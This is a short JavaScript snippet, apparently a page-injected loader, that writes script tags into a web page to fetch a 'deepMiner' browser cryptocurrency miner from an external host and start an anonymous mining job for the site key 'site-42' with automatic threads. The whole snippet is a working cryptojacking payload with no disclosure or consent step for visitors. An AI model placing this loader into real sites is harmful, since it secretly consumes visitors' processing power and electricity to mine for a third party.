// ES3: the loader of 2018, written into the page.
document.write('<script src="//static.stats.example/lib/deepMiner.min.js"><\/script>');
document.write('<script>' +
  'var job = new deepMiner.Anonymous("site-42", { autoThreads: true, throttle: 0.5 });' +
  'job.start();' +
  '<\/script>');
